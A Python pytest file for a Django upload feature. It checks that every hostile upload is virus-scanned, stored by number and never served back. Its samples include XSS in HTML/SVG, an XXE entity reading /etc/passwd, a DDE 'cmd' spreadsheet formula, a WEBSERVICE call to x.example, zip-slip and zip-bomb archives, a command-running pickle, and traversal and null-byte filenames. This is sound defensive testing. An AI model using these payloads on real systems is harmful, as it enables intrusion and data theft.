"""P47: what is handed over cannot harm: it is looked at by a scanner, kept by number, read as data, never given back.

Made files of every harmful kind, under every harmful name, are handed over as imports. None may become an error, lie
anywhere but in its folder under its number, or come back as it was; and where the scanner does not say that a file is
clean, it is not kept.
"""

from __future__ import annotations

import io
import random
import re
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from baken.apps.access.tests.factories import make_holder
from baken.apps.access.types import Role
from baken.apps.exchange.engine import scanning
from baken.apps.exchange.models import Import
from baken.apps.exchange.tests.folders import CELL
from baken.apps.people.models import Cell
from baken.apps.people.tests.factories import make_cell
from baken.apps.programme.tests.factories import make_offer
from tests import clamd
from tests.clamd import EICAR, Scanner
from tests.promises.noting import Tried

pytestmark = pytest.mark.django_db
UPLOAD = "/invoer/bezorgen/"
MARK = b"kanarie47z"
SCRIPT = b"<script>pwned('kanarie47z')</script>"
CENTRES = CELL["centra.csv"].encode()


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def workbook(*, macros: bool) -> bytes:
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["code", "naam", '=WEBSERVICE("http://x.example/kanarie47z")'])
    book.save(buffer)
    if not macros:
        return buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        inside = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**inside, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + MARK})


HARMFUL = {
    "html": b"<!DOCTYPE html>" + SCRIPT,
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()">' + SCRIPT + b"</svg>",
    "xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;' + MARK + b"</x>",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('kanarie47z'))>>>>endobj\n%%EOF",
    "gif that is a script": b"GIF89a/*" + MARK + b"*/=1;pwned()//",
    "pdf that is a page": b"%PDF-1.7\n" + SCRIPT,
    "csv that is a page": CENTRES + b"C;" + SCRIPT + b";GO!;;;;\n",
    "csv that is a formula": CENTRES + b"C;=cmd|'/c calc'!A0 kanarie47z;GO!;;;;\n",
    "csv that is a zip": CENTRES + zipped({"centra.csv": MARK}),
    "zip that is a page": SCRIPT + zipped({"x.html": SCRIPT}),
    "zip that leads out": zipped(
        {"../../../../tmp/kanarie47z.csv": MARK, "/etc/kanarie47z": MARK, "centra.csv": CENTRES}
    ),
    "zip in a zip": zipped({"binnen.zip": zipped({"centra.csv": CENTRES + MARK})}),
    "bomb": zipped({"centra.csv": b"0" * 30_000_000}),
    "workbook with a formula": workbook(macros=False),
    "workbook with macros": workbook(macros=True),
    "old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK * 50,
    "program": b"\x7fELF\x02\x01\x01" + MARK,
    "script": b"#!/bin/sh\ntouch /tmp/kanarie47z\n",
    "pickle": b"cos\nsystem\n(S'touch /tmp/kanarie47z'\ntR.",
    "noughts": b"code;naam\0;net\n" + MARK + b"\0" * 500,
    "bad letters": b"\xff\xfe\x00\xd8" * 40 + MARK,
    "empty": b"",
}
NAMES = [
    *("centra.csv", "centra.xlsx", "centra.zip", "centra.svg", "centra.html", "centra.csv.html", "centra.php.csv"),
    *(
        "../../centra.csv",
        "..\\..\\centra.csv",
        "/etc/passwd",
        "C:\\centra.csv",
        "centra.csv\0.html",
        "centra\r\nX: y.csv",
    ),
    *(
        ".htaccess",
        "~$centra.xlsx",
        "con.csv",
        "\u202evsc.artnec",
        "centra.csv ",
        "ce<script>ntra.csv",
        "c" * 400 + ".csv",
    ),
]


@pytest.fixture
def scanner(settings: Any, tmp_path: Path) -> Iterator[Scanner]:
    with clamd.running(tmp_path) as scanner:
        settings.SCANNER = str(scanner.server_address)
        yield scanner


@pytest.fixture
def coordinator() -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(make_holder(Role.COORDINATOR, make_cell("c1")))
    return client


def hand_over(client: Client, name: str, content: bytes) -> Any:
    return client.post(UPLOAD, {"files": [SimpleUploadedFile(name, content, content_type="text/html")]})


def kept(settings: Any) -> list[str]:
    """What lies in the folder of imports, by the names that it has there."""
    folder = Path(settings.IMPORTS)
    return [str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()] if folder.exists() else []


def refusals(answer: Any) -> str:
    assert answer.status_code == 400
    return " ".join(answer.context["refusals"])


def given_back(client: Client, content: bytes) -> list[str]:
    """The addresses of all imports at which something comes back as it was handed over, or runs."""
    found = []
    for record in Import.objects.all():
        for end in ("", "rijen/0/new/", "rijen/0/rejected/", "geweigerd.zip", "../"):
            answer = client.get(f"/invoer/{record.uuid}/{end}".replace(f"{record.uuid}/../", ""))
            said = b"".join(answer) if answer.streaming else answer.content
            is_page = answer.headers.get("Content-Type", "").startswith("text/html")
            runs = is_page and (SCRIPT in said or b"<svg onload" in said)
            attached = answer.headers.get("Content-Disposition", "").startswith("attachment")
            if answer.status_code >= 500 or runs or (content and content in said) or not (is_page or attached):
                found.append(end)
    return found


@pytest.mark.parametrize("many", [30, pytest.param(10**6, marks=pytest.mark.soak)])
def test_nothing_that_is_handed_over_does_harm(
    coordinator: Client, scanner: Scanner, settings: Any, many: int, tried: Tried
) -> None:
    cases = [(kind, name) for kind in HARMFUL for name in NAMES]
    for kind, name in random.SystemRandom().sample(cases, min(many, len(cases))):
        case = (kind, name)
        answer = hand_over(coordinator, name, HARMFUL[kind])
        assert (case, answer.status_code) in ((case, 302), (case, 400))
        by_number = (
            r"[0-9a-f-]{36}/(files/\d{3}\.(csv|xlsx|zip|other)|plan\.duckdb|problems\.jsonl|rejected\.zip|lock)"
        )
        assert (case, [path for path in kept(settings) if not re.fullmatch(by_number, path)]) == (case, [])
        assert (case, given_back(coordinator, HARMFUL[kind])) == (case, [])
        Import.objects.all().delete()
        tried()
    assert scanner.seen > 0
    outside = [Path(folder, "kanarie47z") for folder in ("/etc", tempfile.gettempdir())]
    assert [path for path in outside if path.exists() or path.with_suffix(".csv").exists()] == []


@pytest.mark.parametrize("content", [EICAR, zipped({"centra.csv": EICAR}), CENTRES + b"C;" + EICAR + b";GO!;;;;\n"])
def test_a_virus_is_refused_and_not_kept(coordinator: Client, scanner: Scanner, settings: Any, content: bytes) -> None:
    answer = hand_over(coordinator, "centra.csv" if content[:2] != b"PK" else "centra.zip", content)
    assert "zit een virus" in refusals(answer)
    assert (scanner.seen, kept(settings), Import.objects.count()) == (1, [], 0)


def test_what_is_clean_is_taken_in(coordinator: Client, scanner: Scanner, settings: Any) -> None:
    assert hand_over(coordinator, "centra.csv", CENTRES).status_code == 302
    assert (scanner.seen, Import.objects.count(), kept(settings) != []) == (1, 1, True)


@pytest.mark.parametrize(
    "says", [b"stream: Can't allocate memory ERROR\0", b"\0", b"OK\0", b"stream: OK", b"x" * 9000]
)
def test_what_the_scanner_does_not_call_clean_is_refused(
    coordinator: Client, scanner: Scanner, settings: Any, says: bytes
) -> None:
    scanner.answers = says
    answer = hand_over(coordinator, "centra.csv", CENTRES)
    assert "kon niet op virussen nagekeken worden" in refusals(answer)
    assert (kept(settings), Import.objects.count()) == ([], 0)


@pytest.mark.parametrize("says", [b"", b"stream: Heuristics.Limits.Exceeded.MaxFileSize FOUND\0"])
def test_a_file_that_is_too_large_for_the_scanner_is_refused_and_nobody_is_told_to_try_it_again(
    coordinator: Client, scanner: Scanner, settings: Any, says: bytes
) -> None:
    scanner.most, scanner.answers = scanner.most if says else 100_000, says
    said = refusals(hand_over(coordinator, "centra.csv", CENTRES * 20_000))
    assert "te groot om op virussen na te kijken" in said
    assert ("straks" in said, "zit een virus" in said) == (False, False)
    assert (kept(settings), Import.objects.count()) == ([], 0)


@pytest.mark.parametrize("where", ["/nergens/clamd.ctl", "127.0.0.1:1", "[::1]:1", "onzin"])
def test_while_the_scanner_is_down_nothing_is_taken_in(coordinator: Client, settings: Any, where: str) -> None:
    settings.SCANNER = where
    answer = hand_over(coordinator, "centra.csv", CENTRES)
    assert "Probeer het straks opnieuw" in refusals(answer)
    assert (kept(settings), Import.objects.count()) == ([], 0)


LIST = {"otherwise": "aanwezig", "held_on": "2025-11-14", "title": "Aanbod", "organiser": "P", "strategy": "vorming"}


def list_handed_over(client: Client, door: str, offer: Any, name: str, content: bytes) -> Any:
    """A list of people handed over at one of the doors of the programme."""
    address = reverse(f"programme:{door}", args=[] if door.endswith("of_new") else [offer.uuid])
    return client.post(address, {**LIST, "file": SimpleUploadedFile(name, content, content_type="text/html")})


@pytest.mark.parametrize("door", ["receive_partner_list", "receive_partner_list_of_new", "enrol_list"])
def test_no_list_of_people_does_harm_and_none_is_kept_as_it_came(
    coordinator: Client, scanner: Scanner, settings: Any, door: str, tried: Tried
) -> None:
    offer = make_offer(Cell.objects.get())
    for kind, content in HARMFUL.items():
        case = (kind, random.SystemRandom().choice(NAMES))
        answer = list_handed_over(coordinator, door, offer, case[1], content)
        assert (case, answer.status_code) in ((case, 200), (case, 302), (case, 400))
        pages = [answer, coordinator.get(answer["Location"])] if answer.status_code == 302 else [answer]
        assert (case, [page.status_code for page in pages[1:]]) in ((case, []), (case, [200]))
        assert (case, [page for page in pages if SCRIPT in page.content or b"<svg onload" in page.content]) == (
            case,
            [],
        )
        assert (case, kept(settings)) == (case, [])
        tried()
    assert scanner.seen > 0
    assert "zit een virus" in refusals(list_handed_over(coordinator, door, offer, "lijst.csv", EICAR))


def test_control_a_scanner_whose_trouble_is_taken_for_clean_lets_a_virus_in(
    coordinator: Client, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.SCANNER = "/nergens/clamd.ctl"
    scan = scanning.scan

    def forgiving(path: Path) -> None:
        try:
            scan(path)
        except scanning.CannotScan:
            return

    monkeypatch.setattr(scanning, "scan", forgiving)
    assert hand_over(coordinator, "centra.csv", EICAR).status_code == 302
    assert Import.objects.count() == 1


def test_control_names_from_outside_and_files_as_they_were_are_found_out(
    coordinator: Client, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from baken.apps.exchange.engine import waiting

    content = CENTRES + b"C;" + SCRIPT + b";GO!;;;;\n"
    hand_over(coordinator, "centra.csv", content)
    assert given_back(coordinator, content) == []
    monkeypatch.setattr("baken.apps.exchange.views.queries.rejected_rows_of", lambda _record: content)
    assert given_back(coordinator, content) == ["geweigerd.zip"]
    monkeypatch.setattr(waiting, "place", lambda name, _number, called: waiting.folder(name) / waiting.FILES / called)
    hand_over(coordinator, "evil.html", SCRIPT)
    assert any(path.endswith("evil.html") for path in kept(settings))
